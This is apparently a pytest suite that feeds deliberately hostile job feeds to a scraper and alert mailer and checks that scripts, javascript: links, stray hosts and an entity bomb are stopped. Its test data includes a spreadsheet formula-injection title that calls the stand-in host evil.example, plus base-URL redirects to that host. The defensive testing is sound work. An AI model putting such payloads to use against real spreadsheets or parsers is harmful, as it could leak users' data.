"""Every made-up bad document, fetched into an empty database: what is stored and what is sent is what may be.

All tests look at the same read of each, which is done once (documents.outcome).
"""

import asyncio
import html
import os
import re
import resource
from pathlib import Path

import pytest

import alerts.message
from scrapers.reading import read_body
from scrapers.worker import ParsingWorker
from tests.alerts.examples import ARMED
from tests.corpus import needs_shared
from tests.scrapers.faulty import linux_only
from tests.whole.documents import CASES, a_board, outcome, those_that_end, those_with

pytestmark = needs_shared

TEMPLATE = Path(alerts.message.__file__).parent / "templates" / "digest.html"
TAG_NAME = re.compile(r"</?([A-Za-z!][\w-]*)")
HREF = re.compile("href=[\"']?([^\"' >]*)")
PYTHONS_OWN = re.compile(r"open \('[^']*(\.pyc?(\.\d+)?|\.so|\.zip|/METADATA)'|open \('" + os.devnull)


def test_the_cases_are_there() -> None:
    assert len(CASES) >= 85


@pytest.mark.parametrize("path", CASES)
def test_a_document_ends_as_its_manifest_says(path: str) -> None:
    case, result = CASES[path], outcome(path)
    least, most = case["leads"] if isinstance(case["leads"], list) else (case["leads"], case["leads"])
    assert result.report.status in case["state"].split("-or-"), result.report.problem
    assert least <= len(result.leads) <= most
    assert result.report.found == result.report.new == len(result.leads)


@pytest.mark.parametrize("path", those_that_end("ok", "partial"))
def test_a_document_that_is_read_again_holds_nothing_new(path: str) -> None:
    result = outcome(path)
    assert [status for asked, status in result.asked if asked != "/robots.txt"] == [200, 200]
    assert (result.again.status, result.again.found) == (result.report.status, result.report.found)
    assert (result.again.new, result.again.updated) == (0, 0)
    assert result.sent_again == []


@pytest.mark.parametrize("path", those_that_end("partial", "suspect", "fail", "refuse"))
def test_trouble_is_told_in_a_sentence_and_its_validators_are_not_remembered(path: str) -> None:
    result = outcome(path)
    assert result.report.problem
    assert "Traceback" not in result.report.problem
    assert result.state.problem == result.report.problem
    assert (result.state.etag, result.state.last_modified) == (None, None)


@pytest.mark.parametrize("path", those_that_end("ok", "empty"))
def test_a_whole_read_leaves_its_source_healthy_and_its_validators_remembered(path: str) -> None:
    result = outcome(path)
    if result.report.status == "suspect":  # "empty-or-suspect": nobody has said yet what means that there are none
        assert "empty" in (result.report.problem or "")
        return
    assert (result.state.status, result.state.problem) == ("fine", None)
    assert result.state.etag


@pytest.mark.parametrize("path", those_with("title", "link", "contains"))
def test_what_must_be_kept_is_stored_and_sent_letter_for_letter(path: str) -> None:
    case, result = CASES[path], outcome(path)
    (message,) = result.messages
    if link := case.get("link"):
        assert link in result.links
        assert link in message.text
    if title := case.get("title"):
        assert title in [stored.lead.title for stored in result.leads]
        assert title in message.text
        assert title in html.unescape(message.html)
    if words := case.get("contains"):
        assert any(words in stored.lead.title for stored in result.leads)
        assert all(words in part for part in (message.text, html.unescape(message.html), message.chat))


@pytest.mark.parametrize("path", those_with("forbid"))
def test_what_is_forbidden_is_neither_stored_nor_sent(path: str) -> None:
    result = outcome(path)
    for forbidden in CASES[path]["forbid"]:
        parts = result.lines if forbidden in "\r\n" else result.lines + result.texts
        assert not [part for part in parts if forbidden in part]


def test_every_tag_of_a_mail_is_our_own() -> None:
    ours = {name.lower() for name in TAG_NAME.findall(TEMPLATE.read_text("utf-8"))}
    names = {path: {n.lower() for m in outcome(path).messages for n in TAG_NAME.findall(m.html)} for path in CASES}
    assert not [path for path, found in names.items() if found - ours]


@pytest.mark.parametrize("path", those_with("forbid_html", "forbid_script_href"))
def test_no_tag_of_a_mail_does_what_is_forbidden(path: str) -> None:
    forbidden = [*CASES[path].get("forbid_html", []), "javascript:"]
    tags = [tag for message in outcome(path).messages for tag in re.findall("<[^>]*>", message.html)]
    assert not [tag for tag in tags if any(word in html.unescape(tag).lower() for word in forbidden)]


def test_every_link_that_is_stored_or_sent_is_a_web_address() -> None:
    sent = {path: [link for m in outcome(path).messages for link in HREF.findall(m.html)] for path in CASES}
    assert sum(map(len, sent.values())) > 80
    links = {path: [*sent[path], *outcome(path).links] for path in CASES}
    assert not [path for path in CASES if not all(link.startswith(("http://", "https://")) for link in links[path])]


def test_no_alert_pings_anybody_or_shows_a_link_with_words_of_its_own() -> None:
    assert not [path for path in CASES for said in outcome(path).chats if ARMED.search(said)]


def test_nobody_but_the_board_is_called() -> None:
    for path in CASES:
        result = outcome(path)
        calls = [event for event in result.events if event.startswith("socket.")]
        assert not [call for call in calls if not call.endswith(f"('127.0.0.1', {result.port}))")]
        assert {asked for asked, _ in result.asked} == {"/robots.txt", f"/files/{path}"}


def test_no_file_is_opened_but_those_of_the_programs() -> None:
    for path in CASES:
        opened = [event for event in outcome(path).events if event.startswith("open ")]
        assert [event for event in opened if "reading" in event]  # the worker is watched
        assert not [event for event in opened if not PYTHONS_OWN.match(event)]


def test_a_closed_opening_is_stored_and_not_alerted() -> None:
    result = outcome("jsonld/08-expired.html")
    assert len(result.leads) == 1
    assert [digest.leads for digest in result.digests] == [()]
    assert result.digests[0].notices == ("Now watching Board: 1 opening filed, none fits your searches.",)


@pytest.mark.parametrize(
    ("path", "titles"),
    [
        ("rss/07-undefined-entity.rss", ["Café manager", "Chef de cuisine"]),
        (
            "rss/27-formula-title.rss",
            ["+1-800 operator", '=HYPERLINK("http://evil.example?"&A1,"open")', "@SUM(A1:A9)"],
        ),
        ("rss/34-same-title-two-jobs.rss", ["Nurse", "Nurse"]),
    ],
)
def test_titles_are_those_that_a_person_would_read(path: str, titles: list[str]) -> None:
    assert sorted(stored.lead.title for stored in outcome(path).leads) == titles


@pytest.mark.parametrize(
    ("path", "link"),
    [
        ("rss/33-credentials-in-link.rss", "http://jobs.example/1?token=abc"),
        ("rss/39-many-links.rss", "http://jobs.example/real"),
        ("rss/35-tracking-parameters.rss", "http://jobs.example/p?id=5"),
        ("atom/03-base-elsewhere.atom", "http://evil.example/x/job/1"),
        ("html/11-base-elsewhere.html", "http://evil.example/job/1"),
    ],
)
def test_the_link_is_the_one_that_counts(path: str, link: str) -> None:
    assert outcome(path).links == [link]


@pytest.mark.parametrize(
    ("path", "words"), [("rss/21-script-in-description.rss", "Good pay"), ("atom/02-xhtml-script.atom", "Apply now")]
)
def test_the_words_beside_active_markup_stay(path: str, words: str) -> None:
    (stored,) = outcome(path).leads
    assert words in stored.lead.description


def test_links_that_run_code_are_cut_off_and_their_leads_marked() -> None:
    leads = [stored.lead for stored in outcome("rss/23-javascript-link.rss").leads]
    assert {(lead.url, lead.flags) for lead in leads} == {(None, ("link_removed",))}


def test_a_title_of_60_kb_is_cut_and_marked_and_its_alert_is_short() -> None:
    result = outcome("rss/29-long-title.rss")
    (stored,) = result.leads
    assert len(stored.lead.title) <= 300
    assert "title_cut" in stored.lead.flags
    assert max(len(message.text) for message in result.messages) < 2000


def test_no_absurd_date_is_believed() -> None:
    dates = {stored.lead.title: stored.lead.date_posted for stored in outcome("rss/31-absurd-dates.rss").leads}
    assert dates == dict.fromkeys(["Data engineer", "B", "C", "D", "E"])


def test_relative_links_are_completed_with_the_address_of_the_feed() -> None:
    result = outcome("rss/32-relative-links.rss")
    base = f"http://127.0.0.1:{result.port}"
    assert {stored.lead.title: stored.lead.url for stored in result.leads} == {
        "Data engineer": f"{base}/job/7",
        "B": f"{base}/files/rss/job/8?x=1",
        "C": "http://cdn.jobs.example/9",
        "D": f"{base}/files/rss/32-relative-links.rss?id=10",
    }


def test_a_feed_that_asks_never_to_be_read_again_is_read_at_the_next_run() -> None:
    assert outcome("rss/38-ttl-forever.rss").state.due_at is None


def test_a_salary_that_nobody_can_read_stays_unknown() -> None:
    (stored,) = outcome("jsonld/09-odd-salary.html").leads
    assert stored.lead.base_salary is None


@linux_only
def test_the_entity_bomb_costs_less_than_a_second_and_64_mib(tmp_path: Path) -> None:
    with ParsingWorker(seconds=20, mib=4096) as worker:
        asyncio.run(worker.call(read_body, "feed", {}, "http://board.example/", b"<rss/>", ""))
        idle = asyncio.run(worker.call(address_space))
    with a_board(tmp_path, "rss/19-entity-bomb.rss") as (house, _):
        house.parse_seconds, house.parse_mib = 1.0, idle + 64
        assert house.read().status == "refuse"


def address_space() -> int:
    """Of this process, in MiB. The parsing worker is asked for it."""
    return int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize() // 2**20
